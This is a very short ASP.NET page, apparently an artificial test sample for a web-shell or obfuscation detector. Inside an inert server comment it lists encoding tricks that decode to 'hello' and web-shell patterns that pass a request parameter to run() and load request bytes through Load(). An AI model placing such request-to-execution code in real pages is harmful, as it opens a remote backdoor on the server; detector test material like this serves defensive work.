<%@ Page Language="C#" %><%-- \u0072un/* so */Now "he" + "ll" & _
"o" Chr(104)&ChrW(&H65) {0x68,0x65,0x6c,0x6c,0x6f,0x21} "aGVsbG8gd29ybGQgaGVsbG8=" StrReverse("olleh")
a = Request["x"]; b = a; run(b); Request.InputStream.Read(z, 0, 9); L.Load(z); "hZe".Replace("Z", "") --%>
